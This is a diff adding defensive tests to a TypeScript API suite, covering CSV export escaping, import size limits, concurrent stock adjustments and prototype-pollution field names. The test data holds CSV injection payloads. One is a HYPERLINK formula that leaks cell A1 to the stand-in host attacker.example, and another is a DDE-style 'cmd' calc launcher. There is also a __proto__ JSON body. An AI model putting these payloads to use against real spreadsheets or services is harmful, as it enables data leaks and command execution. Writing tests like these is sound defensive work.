@@ -1,6 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { ApiServer, StartApiServer } from './api-contract.js'
 
+/** The most rows one import takes (README: "CSV import"). */
+const IMPORT_ROW_LIMIT = 10_000
+/** The most units of one item, for adjustments and imports alike. */
+const QUANTITY_LIMIT = 1_000_000_000
+
 /**
  * What an attacker or an unlucky network can send, run against any server: no such request
  * changes data, and every answer says what was wrong.
@@ -108,6 +113,166 @@ export function describeHostileInputContract(name: string, start: StartApiServer
       })
     })
 
+    describe('CSV formulas', () => {
+      const formulas = [
+        '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        '-2+3',
+        '@SUM(1+1)',
+        '\t=1+1',
+        '\r=1+1',
+      ]
+
+      it('exports cells a spreadsheet would evaluate behind an apostrophe, and imports them back as they were', async () => {
+        const created = []
+        for (const [index, formula] of formulas.entries()) {
+          created.push(await create({ sku: `FX-${index}`, name: formula, category: formula, location: 'Shelf' }))
+        }
+        const plain = await create({ sku: 'FX-P', name: "'quoted' as typed", category: "'=1+1", location: "''" })
+        expect(created.map((item) => item.name)).toEqual(formulas)
+
+        const exported = (await call('GET', '/api/export')).body as string
+        const lines = exported.split('\r\n').filter((line) => line.startsWith('FX-') || line.startsWith('"FX-'))
+        for (const cell of lines.flatMap((line) => splitCells(line))) {
+          expect(cell, `exported cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
+        }
+        const hyperlink = `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"`
+        expect(lines[0]).toBe(`FX-0,${hyperlink},0,Shelf,${hyperlink},0,0`)
+
+        const imported = await call('POST', '/api/import', { csv: exported })
+        expect(imported.status, JSON.stringify(imported.body)).toBe(200)
+        for (const item of created) {
+          const { item: after } = await itemById(item.id)
+          expect([after.name, after.category]).toEqual([item.name, item.name])
+        }
+        expect((await itemById(plain.id)).item).toMatchObject({
+          name: "'quoted' as typed",
+          category: "'=1+1",
+          location: "''",
+        })
+      })
+
+      it('keeps a leading tab on import instead of trimming it into a formula', async () => {
+        const csv = 'sku,name,category\r\nFT-1,"\t=1+1",Tools\r\n'
+        const imported = await call('POST', '/api/import', { csv })
+        expect(imported.status, JSON.stringify(imported.body)).toBe(200)
+        const [item] = (await call('GET', '/api/items?q=FT-1')).body.items
+        expect(item.name).toBe('\t=1+1')
+        const exported = (await call('GET', '/api/export')).body as string
+        expect(exported).toContain(`FT-1,'\t=1+1,0,,Tools,0,0`)
+      })
+    })
+
+    describe('large imports', () => {
+      const csvOf = (rows: number, prefix: string) =>
+        `sku,name\r\n${Array.from({ length: rows }, (_, index) => `${prefix}${index},n\r\n`).join('')}`
+
+      it(`refuses more than ${IMPORT_ROW_LIMIT} rows with 413 naming the limit, and stores nothing`, async () => {
+        const csv = csvOf(IMPORT_ROW_LIMIT + 1, 'BIG')
+        for (const path of ['/api/import/preview', '/api/import']) {
+          const answer = await call('POST', path, { csv })
+          expect(answer.status, path).toBe(413)
+          expect(answer.body.error.code).toBe('payload_too_large')
+          expect(answer.body.error.message).toContain('10,000 rows')
+          expect(answer.body.error.fields).toEqual({ csv: `at most ${IMPORT_ROW_LIMIT} rows` })
+        }
+        expect(await skusLike('BIG')).toEqual([])
+      })
+
+      it(`previews ${IMPORT_ROW_LIMIT} rows in an answer smaller than the file, then imports them all`, async () => {
+        const csv = csvOf(IMPORT_ROW_LIMIT, 'MAX')
+        const preview = await call('POST', '/api/import/preview', { csv })
+        expect(preview.status).toBe(200)
+        expect(preview.body).toMatchObject({ create_count: IMPORT_ROW_LIMIT, update_count: 0, error_count: 0 })
+        expect(preview.text.length).toBeLessThan(csv.length)
+
+        const invalid = csvOf(IMPORT_ROW_LIMIT, '').replaceAll(',n\r\n', ',\r\n')
+        const refused = await call('POST', '/api/import', { csv: invalid })
+        expect(refused.status).toBe(400)
+        expect(refused.body.error.message).toContain(`${IMPORT_ROW_LIMIT} of ${IMPORT_ROW_LIMIT} rows`)
+        expect(refused.text.length).toBeLessThan(invalid.length)
+
+        const applied = await call('POST', '/api/import', { csv })
+        expect(applied.status, JSON.stringify(applied.body)).toBe(200)
+        expect(applied.body).toEqual({ created: IMPORT_ROW_LIMIT, updated: 0 })
+        const { body } = await call('GET', '/api/items?q=MAX9999')
+        expect(body.items.map((item: { sku: string }) => item.sku)).toEqual(['MAX9999'])
+      })
+    })
+
+    describe('concurrent adjustments', () => {
+      it('answers each of 50 concurrent adjustments with the movement and quantity it wrote', async () => {
+        const item = await create({ sku: 'CC-1', name: 'Busy item', quantity: 0 })
+        const answers = await Promise.all(
+          Array.from({ length: 50 }, (_, index) =>
+            call('POST', `/api/items/${item.id}/adjust`, { delta: index + 1, reason: `delivery ${index + 1}` }),
+          ),
+        )
+        for (const [index, answer] of answers.entries()) {
+          expect(answer.status).toBe(200)
+          expect(answer.body.movement).toMatchObject({
+            item_id: item.id,
+            delta: index + 1,
+            reason: `delivery ${index + 1}`,
+          })
+          expect(answer.body.item.quantity).toBe(answer.body.movement.quantity_after)
+        }
+        const total = (50 * 51) / 2
+        const after = await itemById(item.id)
+        expect(after.item.quantity).toBe(total)
+        // Each answer's movement is the one stored with that id, and the history adds up.
+        const stored = new Map(after.movements.map((movement: { id: number }) => [movement.id, movement]))
+        for (const answer of answers) expect(stored.get(answer.body.movement.id)).toMatchObject(answer.body.movement)
+        const afters = answers.map((answer) => answer.body.movement.quantity_after).sort((a, b) => a - b)
+        expect(afters.at(-1)).toBe(total)
+        expect(new Set(afters).size).toBe(50)
+      })
+
+      it('states the stock there really is when it refuses a sale', async () => {
+        const item = await create({ sku: 'CC-2', name: 'Popular item', quantity: 30 })
+        const answers = await Promise.all(
+          Array.from({ length: 40 }, () => call('POST', `/api/items/${item.id}/adjust`, { delta: -1, reason: 'sale' })),
+        )
+        const refused = answers.filter((answer) => answer.status === 409)
+        expect(answers.filter((answer) => answer.status === 200)).toHaveLength(30)
+        expect(refused).toHaveLength(10)
+        for (const answer of refused) expect(answer.body.error.fields).toEqual({ delta: 'only 0 in stock' })
+        expect((await itemById(item.id)).item.quantity).toBe(0)
+      })
+    })
+
+    describe('limits and odd field names', () => {
+      it('refuses an adjustment above the quantity an import accepts, so an export always imports again', async () => {
+        const item = await create({ sku: 'QL-1', name: 'Nearly full', quantity: QUANTITY_LIMIT - 5 })
+        const over = await call('POST', `/api/items/${item.id}/adjust`, { delta: 10, reason: 'delivery' })
+        expect(over.status).toBe(409)
+        expect(over.body.error.fields).toEqual({ delta: 'at most 5 more: an item holds at most 1,000,000,000' })
+        expect((await itemById(item.id)).item.quantity).toBe(QUANTITY_LIMIT - 5)
+        const full = await call('POST', `/api/items/${item.id}/adjust`, { delta: 5, reason: 'delivery' })
+        expect(full.body.item.quantity).toBe(QUANTITY_LIMIT)
+
+        const [header, ...lines] = ((await call('GET', '/api/export')).body as string).split('\r\n')
+        const exported = [header, ...lines.filter((line) => line.startsWith('QL-1,'))].join('\r\n')
+        expect(exported).toContain(`QL-1,Nearly full,${QUANTITY_LIMIT},`)
+        const preview = await call('POST', '/api/import/preview', { csv: exported })
+        expect(preview.body).toMatchObject({ update_count: 1, error_count: 0 })
+      })
+
+      it('names unknown fields called __proto__ and constructor', async () => {
+        const body = '{"sku":"PR-1","name":"x","__proto__":{"admin":true},"constructor":"y"}'
+        const created = await call('POST', '/api/items', body)
+        expect(created.status).toBe(400)
+        expect(created.body.error.message).toBe('invalid __proto__, constructor')
+        expect(Object.keys(created.body.error.fields).sort()).toEqual(['__proto__', 'constructor'])
+        expect(created.body.error.fields.constructor).toBe('unknown field')
+
+        const listed = await call('GET', '/api/items?__proto__=1&toString=2')
+        expect(listed.status).toBe(400)
+        expect(listed.body.error.message).toBe('invalid __proto__, toString')
+        expect(await skusLike('PR-')).toEqual([])
+      })
+    })
+
     describe('security headers', () => {
       it('sends a Content-Security-Policy and frame protection with the page, and nosniff with everything', async () => {
         const page = await send('GET', '/', {})
@@ -132,4 +297,26 @@ export function describeHostileInputContract(name: string, start: StartApiServer
       })
     })
   })
+}
+
+/** The cells of one CSV line (no line breaks inside cells). */
+function splitCells(line: string): string[] {
+  const cells: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let index = 0; index < line.length; index++) {
+    const char = line[index]
+    if (quoted && char === '"' && line[index + 1] === '"') {
+      cell += '"'
+      index++
+    } else if (char === '"') {
+      quoted = !quoted
+    } else if (char === ',' && !quoted) {
+      cells.push(cell)
+      cell = ''
+    } else {
+      cell += char
+    }
+  }
+  return [...cells, cell]
 }
